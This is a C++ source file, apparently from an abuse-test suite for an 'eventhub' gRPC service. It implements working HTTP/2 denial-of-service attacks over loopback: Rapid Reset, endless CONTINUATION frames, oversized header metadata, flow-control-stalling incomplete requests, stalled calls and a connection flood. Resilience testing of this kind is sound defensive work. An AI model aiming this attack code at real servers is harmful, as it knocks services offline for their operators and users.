#include "tests/abuse/attacks.h"

#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <cstring>
#include <functional>
#include <memory>
#include <optional>
#include <utility>
#include <vector>

#include "absl/time/clock.h"
#include "tests/abuse/http2.h"
#include "tests/abuse/loopback.h"

namespace eventhub::abuse {
namespace {

// Sends without blocking, reads what arrives, and respects the flow-control windows granted to it.
class Attacker {
 public:
  // Returns the next bytes to send; empty while there are none.
  using Next = std::function<std::string(Attacker&)>;

  Attacker(std::string address, Next next) : address_(std::move(address)), next_(std::move(next)) {}
  ~Attacker() { Disconnect(); }

  // Progresses as far as possible without blocking; returns whether it did.
  bool Step() {
    if (fd_ < 0 && !Reconnect()) return false;
    if (!TakeIn()) return false;
    if (sent_ == out_.size()) {
      sent_ = 0;
      out_ = next_(*this);
      if (out_.empty()) return false;
    }
    const ssize_t size =
        send(fd_, out_.data() + sent_, out_.size() - sent_, MSG_NOSIGNAL | MSG_DONTWAIT);
    if (size < 0) {
      if (errno != EAGAIN) Disconnect();
      return false;
    }
    sent_ += static_cast<size_t>(size);
    total_ += static_cast<uint64_t>(size);
    return true;
  }

  uint64_t total() const { return total_; }

  // For Next: the number of the next stream, reset with the connection; and how many bytes of data
  // may be sent on the connection.
  uint32_t stream = 1;
  int64_t window = 65'535;
  int64_t stream_window = 65'535;  // Of each new stream.
  std::vector<int64_t> windows;    // By stream / 2, beyond the initial one.

 private:
  bool Reconnect() {
    const absl::Time now = absl::Now();
    if (now < retry_at_) return false;
    retry_at_ = now + absl::Milliseconds(20);
    fd_ = ConnectFrom(Host::kAttacker, address_);
    if (fd_ < 0) return false;
    stream = 1;
    window = 65'535;
    stream_window = 65'535;
    windows.clear();
    in_.clear();
    out_ = kPreface + Http2Frame(kSettings, 0, 0, "");
    sent_ = 0;
    return true;
  }

  void Disconnect() {
    if (fd_ >= 0) close(fd_);
    fd_ = -1;
    out_.clear();
    sent_ = 0;
  }

  bool TakeIn() {
    char buffer[16'384];
    const ssize_t size = recv(fd_, buffer, sizeof(buffer), MSG_DONTWAIT);
    if (size == 0 || (size < 0 && errno != EAGAIN)) {
      Disconnect();
      return false;
    }
    if (size > 0) in_.append(buffer, static_cast<size_t>(size));
    for (size_t at = 0;;) {
      const std::optional<Http2Header> frame = ReadHeader(in_, at);
      if (!frame.has_value()) {
        in_.erase(0, at);
        return true;
      }
      Note(*frame, in_.substr(at + kHeaderBytes, frame->size));
      at += kHeaderBytes + frame->size;
    }
  }

  void Note(const Http2Header& frame, const std::string& payload) {
    if (frame.type == kWindowUpdate && payload.size() == 4) {
      const int64_t more = ReadNumber(payload, 0, 4);
      if (frame.stream == 0) {
        window += more;
      } else {
        if (windows.size() <= frame.stream / 2) windows.resize(frame.stream / 2 + 1);
        windows[frame.stream / 2] += more;
      }
    }
    if (frame.type == kSettings && frame.flags == 0) {
      for (size_t at = 0; at + 6 <= payload.size(); at += 6) {
        if (ReadNumber(payload, at, 2) == 4) stream_window = ReadNumber(payload, at + 2, 4);
      }
    }
  }

  const std::string address_;
  const Next next_;
  int fd_ = -1;
  absl::Time retry_at_ = absl::InfinitePast();
  std::string in_;
  std::string out_;
  size_t sent_ = 0;
  uint64_t total_ = 0;
};

uint64_t Attack(const std::string& address, int connections, absl::Duration time,
                const std::function<Attacker::Next()>& make) {
  std::vector<std::unique_ptr<Attacker>> attackers;
  for (int i = 0; i < connections; ++i) {
    attackers.push_back(std::make_unique<Attacker>(address, make()));
  }
  for (const absl::Time end = absl::Now() + time; absl::Now() < end;) {
    bool any = false;
    for (const auto& attacker : attackers) any |= attacker->Step();
    if (!any) poll(nullptr, 0, 1);
  }
  uint64_t total = 0;
  for (const auto& attacker : attackers) total += attacker->total();
  return total;
}

}  // namespace

uint64_t RapidReset(const std::string& address, int connections, absl::Duration time) {
  return Attack(address, connections, time, [] {
    return [headers = CallHeaders("/eventhub.v1.EventHubService/Publish")](Attacker& a) {
      std::string out;
      for (int i = 0; i < 500; ++i, a.stream += 2) {
        out += Http2Frame(kHeaders, kEndHeaders, a.stream, headers);
        out += Http2Frame(kResetStream, 0, a.stream, std::string("\0\0\0\x08", 4));
      }
      return out;
    };
  });
}

uint64_t EndlessContinuation(const std::string& address, int connections, absl::Duration time) {
  return Attack(address, connections, time, [] {
    return [begun = false](Attacker& a) mutable {
      // A new name each time, so that every field is stored.
      const std::string field = Literal("x-" + std::to_string(a.window--), std::string(100, 'x'));
      std::string block;
      while (block.size() + field.size() < 16'000) block += field;
      if (a.stream == 1) begun = false;
      if (!begun) {
        begun = true;
        a.stream = 3;
        return Http2Frame(kHeaders, 0, 1, CallHeaders("/eventhub.v1.EventHubService/Publish"));
      }
      return Http2Frame(kContinuation, 0, 1, block);
    };
  });
}

uint64_t HugeMetadata(const std::string& address, int connections, absl::Duration time) {
  return Attack(address, connections, time, [] {
    return [](Attacker& a) {
      constexpr int kFrames = 3700;  // Of 16 KB each.
      std::string out =
          Http2Frame(kHeaders, 0, a.stream, CallHeaders("/eventhub.v1.EventHubService/Publish"));
      for (int i = 1; i <= kFrames; ++i) {
        std::string block;
        const std::string field = Literal("x-" + std::to_string(i), std::string(100, 'x'));
        while (block.size() + field.size() < 16'000) block += field;
        out += Http2Frame(kContinuation, i == kFrames ? kEndHeaders : 0, a.stream, block);
      }
      a.stream += 2;
      return out;
    };
  });
}

uint64_t IncompleteRequests(const std::string& address, int connections, size_t message_bytes,
                            absl::Duration time) {
  constexpr uint32_t kStreams = 100;
  constexpr size_t kPiece = 16'000;
  return Attack(address, connections, time, [message_bytes] {
    return [message_bytes, left = std::vector<size_t>()](Attacker& a) mutable {
      std::string out;
      if (a.stream == 1) left.clear();
      while (a.stream < 2 * kStreams) {
        std::string start(1, '\0');
        AppendNumber(&start, message_bytes, 4);
        out += Http2Frame(kHeaders, kEndHeaders, a.stream,
                          CallHeaders("/eventhub.v1.EventHubService/Publish"));
        out += Http2Frame(kData, 0, a.stream, start);
        a.window -= 5;
        left.push_back(message_bytes - 1);
        a.stream += 2;
      }
      a.windows.resize(std::max<size_t>(a.windows.size(), kStreams));
      for (uint32_t i = 0; i < left.size() && out.size() < (1 << 20); ++i) {
        const int64_t sent = static_cast<int64_t>(message_bytes - 1 - left[i]) + 5;
        const int64_t room = std::min(a.window, a.stream_window + a.windows[i] - sent);
        const size_t size =
            std::min({kPiece, left[i], static_cast<size_t>(std::max<int64_t>(room, 0))});
        if (size == 0) continue;
        out += Http2Frame(kData, 0, 2 * i + 1, std::string(size, 'x'));
        left[i] -= size;
        a.window -= static_cast<int64_t>(size);
      }
      return out;
    };
  });
}

uint64_t CallsWithoutRequests(const std::string& address, int connections, absl::Duration time) {
  return Attack(address, connections, time, [] {
    return [](Attacker& a) {
      std::string out;
      for (; a.stream < 200; a.stream += 2) {
        out += Http2Frame(kHeaders, kEndHeaders, a.stream,
                          CallHeaders("/eventhub.v1.EventHubService/Publish"));
      }
      return out;
    };
  });
}

uint64_t StalledCalls(const std::string& address, int connections, const std::string& method,
                      const std::string& request, absl::Duration time) {
  std::string message(1, '\0');
  AppendNumber(&message, request.size(), 4);
  message += request;
  const std::string path = "/eventhub.v1.EventHubService/" + method;
  return Attack(address, connections, time, [message, path] {
    return [message, path](Attacker& a) {
      std::string out;
      for (; a.stream < 200; a.stream += 2) {
        out += Http2Frame(kHeaders, kEndHeaders, a.stream, CallHeaders(path));
        out += Http2Frame(kData, kEndStream, a.stream, message);
      }
      return out;
    };
  });
}

uint64_t ConnectionFlood(const std::string& address, absl::Duration time) {
  uint64_t count = 0;
  const std::string hello = kPreface + Http2Frame(kSettings, 0, 0, "");
  for (const absl::Time end = absl::Now() + time; absl::Now() < end;) {
    const int fd = ConnectFrom(Host::kAttacker, address);
    if (fd < 0) continue;
    ++count;
    send(fd, hello.data(), hello.size(), MSG_NOSIGNAL | MSG_DONTWAIT);
    const linger at_once = {1, 0};
    setsockopt(fd, SOL_SOCKET, SO_LINGER, &at_once, sizeof(at_once));
    close(fd);
  }
  return count;
}

}  // namespace eventhub::abuse
